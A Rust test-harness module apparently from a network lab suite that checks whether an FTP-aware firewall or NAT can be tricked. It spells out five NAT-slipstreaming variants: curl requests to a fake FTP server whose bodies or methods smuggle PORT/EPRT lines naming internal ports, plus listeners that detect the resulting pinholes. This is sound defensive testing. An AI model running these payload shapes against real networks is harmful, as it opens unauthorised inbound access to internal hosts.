//! The attacker's programs of tests/lab_trust.rs: `scripts/slipstream-server.py` (a fake
//! FTP server on an outside port 21 that a victim's curl is made to POST to) with the curl
//! invocations of each slipstreaming variant, and `scripts/ftp-raw.py` (a control connection
//! that sends exactly the bytes a test gives), and the victims' listeners (`Listeners`, one
//! `scripts/tcp-sink.py` per port). It only runs programs in the lab's namespaces
//! and reads what they wrote; what an attack achieved is for the tests to judge.
#![allow(dead_code)]

use std::path::{Path, PathBuf};
use std::process::{Child, Output};
use std::thread::sleep;
use std::time::{Duration, Instant};

use super::bounce::Sink;
use super::env::{script, LabEnv};
use super::ftp::terminate;
use super::net::{Lab, Role};

/// The inside client's address, which a slipstreaming PORT names.
pub const VICTIM: &str = "10.77.0.2";

/// The outside attacker's fake FTP server, where the victim's curl is sent.
pub const ATTACKER_URL: &str = "http://198.51.100.2:21/";

/// One shape of a slipstreaming attempt: how the victim's HTTP requests carry the
/// announcement, and so in which segment it starts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Slipstream {
    /// One POST whose body's second line is the PORT: request line, headers and body in
    /// one segment, the PORT in its middle. The attacker answers "230" to the first bytes,
    /// which come after the PORT.
    BodyLine,
    /// One POST with `Expect: 100-continue`: curl sends the headers, waits a second for a
    /// "100 Continue" that never comes, then sends the body, a PORT line, in a segment of its
    /// own. The attacker answers "230" to the headers meanwhile.
    ExpectContinue,
    /// Two requests on one keep-alive connection: a plain POST, answered with an HTTP
    /// response whose body is "230 Login successful.", then a POST with `Expect:
    /// 100-continue` whose body is the PORT line.
    KeepAlive,
    /// `KeepAlive` with an EPRT (`EPRT |1|10.77.0.2|PORT|`) instead of the PORT.
    KeepAliveEprt,
    /// `ExpectContinue` with the method `USER` (`curl -X USER`): the request line reads as
    /// an FTP command ("USER / HTTP/1.1"), the headers after it do not.
    UserMethod,
}

impl Slipstream {
    pub const ALL: [Slipstream; 5] = [
        Slipstream::BodyLine,
        Slipstream::ExpectContinue,
        Slipstream::KeepAlive,
        Slipstream::KeepAliveEprt,
        Slipstream::UserMethod,
    ];

    /// The inside port this variant's announcement names (each variant has its own
    /// listener, so a connection tells which variant opened it).
    pub fn port(self) -> u16 {
        3306 + Slipstream::ALL.iter().position(|v| *v == self).unwrap() as u16
    }

    /// The announcement line, with CRLF.
    pub fn line(self) -> String {
        let port = self.port();
        match self {
            Slipstream::KeepAliveEprt => format!("EPRT |1|{VICTIM}|{port}|\r\n"),
            _ => format!(
                "PORT {},{},{}\r\n",
                VICTIM.replace('.', ","),
                port >> 8,
                port & 0xff
            ),
        }
    }

    /// Whether the attacker server answers as HTTP (`--http`) rather than with bare FTP
    /// lines.
    fn http(self) -> bool {
        matches!(self, Slipstream::KeepAlive | Slipstream::KeepAliveEprt)
    }

    /// curl's arguments, with the bodies written to files in `work`.
    fn curl_args(self, work: &Path) -> Vec<String> {
        let first = work.join(format!("body-{}-1", self.port()));
        let second = work.join(format!("body-{}-2", self.port()));
        let announce = self.line();
        let at = |p: &PathBuf| format!("@{}", p.display());
        let mut args: Vec<String> = ["-sS", "--max-time", "6"].map(String::from).to_vec();
        match self {
            Slipstream::BodyLine => {
                std::fs::write(&first, format!("a=1\r\n{announce}")).unwrap();
                args.extend(["--http0.9".into(), "--data-binary".into(), at(&first)]);
            }
            Slipstream::ExpectContinue | Slipstream::UserMethod => {
                std::fs::write(&first, &announce).unwrap();
                if self == Slipstream::UserMethod {
                    args.extend(["-X".into(), "USER".into()]);
                }
                args.extend(
                    ["--http0.9", "-H", "Expect: 100-continue", "--data-binary"].map(String::from),
                );
                args.push(at(&first));
            }
            Slipstream::KeepAlive | Slipstream::KeepAliveEprt => {
                std::fs::write(&first, "a=1\r\n").unwrap();
                std::fs::write(&second, &announce).unwrap();
                args.extend(["--data-binary".into(), at(&first), ATTACKER_URL.into()]);
                args.extend(
                    ["--next", "-H", "Expect: 100-continue", "--data-binary"].map(String::from),
                );
                args.push(at(&second));
            }
        }
        args.push(ATTACKER_URL.into());
        args
    }
}

/// A running `slipstream-server.py` on the outside host's port 21.
pub struct Attacker {
    child: Child,
    out: PathBuf,
}

impl Attacker {
    /// Starts the attacker's server for `variant` with its files in `work`, and waits until
    /// it listens.
    pub fn start(env: &LabEnv, lab: &Lab, variant: Slipstream, work: &Path) -> Attacker {
        let out = work.join(format!("attacker-{}", variant.port()));
        let ready = work.join(format!("attacker-{}.ready", variant.port()));
        let mut args = vec![
            script("slipstream-server.py").into_os_string(),
            "--listen".into(),
            "198.51.100.2:21".into(),
            "--out".into(),
            out.clone().into_os_string(),
            "--ready".into(),
            ready.clone().into_os_string(),
            "--timeout".into(),
            "12".into(),
        ];
        if variant.http() {
            args.push("--http".into());
        }
        let child = lab
            .command(Role::Server, 40, &env.python, &args)
            .spawn()
            .expect("slipstream-server.py");
        let mut attacker = Attacker { child, out };
        let deadline = Instant::now() + Duration::from_secs(10);
        while !ready.exists() {
            if let Ok(Some(status)) = attacker.child.try_wait() {
                panic!("slipstream-server.py exited ({status}) before listening");
            }
            assert!(
                Instant::now() < deadline,
                "slipstream-server.py not listening"
            );
            sleep(Duration::from_millis(20));
        }
        attacker
    }

    /// Waits for the server to end (the victim closed, or its timeout).
    pub fn wait(&mut self) {
        let _ = self.child.wait();
    }

    /// One line per connection the attacker tried ("PORT ... -> ADDR:PORT connected").
    pub fn tries(&self) -> String {
        std::fs::read_to_string(&self.out).unwrap_or_default()
    }

    /// The bytes the victim's connection carried to the attacker.
    pub fn received(&self) -> String {
        let mut path = self.out.clone().into_os_string();
        path.push(".received");
        String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default()).into_owned()
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        terminate(&mut self.child);
    }
}

/// The victim: curl in the inside client's namespace, sending `variant`'s requests to the
/// attacker. Its outcome does not matter (a refused line may cut its requests short).
pub fn victim_curl(lab: &Lab, variant: Slipstream, work: &Path) -> Output {
    lab.run(Role::Client, "curl", &variant.curl_args(work))
}

/// How long every listener of a test waits for a connection, in seconds: an upper bound
/// only, as the test ends each listener with a probe once its attacks are over.
const SINK_TIMEOUT: u32 = 300;

/// What the probe that ends a listener sends: a listener whose connection carried it got no
/// other connection before.
const PROBE: &[u8] = b"probe\n";

/// The listeners' ports that got a connection from someone else than the probe: (port, who,
/// what it carried).
pub type Reached = Vec<(u16, String, Vec<u8>)>;
/// One `tcp-sink.py` per port at `host` in `role`'s namespace, started together, each
/// keeping the first connection that reaches it.
pub struct Listeners {
    role: Role,
    host: &'static str,
    ports: Vec<u16>,
    sinks: Vec<Sink>,
}

impl Listeners {
    pub fn start(
        env: &LabEnv,
        lab: &Lab,
        role: Role,
        host: &'static str,
        ports: &[u16],
        work: &Path,
    ) -> Listeners {
        let sinks = ports
            .iter()
            .map(|port| {
                Sink::start(
                    env,
                    lab,
                    role,
                    &format!("{host}:{port}"),
                    work,
                    SINK_TIMEOUT,
                )
            })
            .collect();
        Listeners {
            role,
            host,
            ports: ports.to_vec(),
            sinks,
        }
    }

    /// Once the attacks are over (every connection they made is in a listener's queue or
    /// done): connects to each listener with `PROBE`, so that one still waiting ends now,
    /// and returns the listeners whose connection was not the probe. A listener serves its
    /// queue in order, so the probe is only ever served when nothing came before it.
    pub fn finish(self, env: &LabEnv, lab: &Lab) -> Reached {
        let mut reached = Vec::new();
        for (port, mut sink) in self.ports.into_iter().zip(self.sinks) {
            // Refused when the listener has already served the attacker's connection.
            let probe = format!(
                "import socket\ntry:\n    s = socket.create_connection(('{}', {port}), timeout=5)\n    s.sendall(b'probe\\n')\n    s.close()\nexcept OSError:\n    pass\n",
                self.host,
            );
            lab.run(self.role, &env.python, &["-c", &probe]);
            assert!(
                sink.wait(),
                "the listener on {}:{port} got no connection, not even the probe",
                self.host
            );
            let bytes = sink.received();
            if bytes != PROBE {
                reached.push((port, sink.peer().unwrap_or_default(), bytes));
            }
        }
        reached
    }
}

/// `ftp-raw.py` in `role`'s namespace: connects to `connect` ("ADDRESS:PORT"), runs `steps`
/// (`send:TEXT`, `reply:CODE`, `sleep:S`, `drain:S`) and, with `connect_announced`, tries
/// every address the replies announced, with `fastopen` sends the first step's bytes in the
/// SYN. Its stdout is the dialogue, its exit status whether
/// the control connection was made.
pub fn raw_session(
    env: &LabEnv,
    lab: &Lab,
    role: Role,
    connect: &str,
    connect_announced: bool,
    fastopen: bool,
    steps: &[String],
) -> Output {
    let mut args: Vec<String> = vec![
        script("ftp-raw.py").display().to_string(),
        "--connect".into(),
        connect.into(),
        "--timeout".into(),
        "4".into(),
    ];
    if connect_announced {
        args.push("--connect-announced".into());
    }
    if fastopen {
        args.push("--fastopen".into());
    }
    args.extend(steps.iter().cloned());
    let out = lab.run(role, &env.python, &args);
    assert!(
        out.status.success(),
        "ftp-raw.py could not connect to {connect}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// The steps of an anonymous login (the greeting first).
pub fn login_steps() -> Vec<String> {
    [
        "reply:220",
        "send:USER anonymous\\r\\n",
        "reply:331",
        "send:PASS x\\r\\n",
        "reply:230",
    ]
    .map(String::from)
    .to_vec()
}

/// `port` as the p1,p2 of a PORT or 227.
pub fn p1p2(port: u16) -> String {
    format!("{},{}", port >> 8, port & 0xff)
}
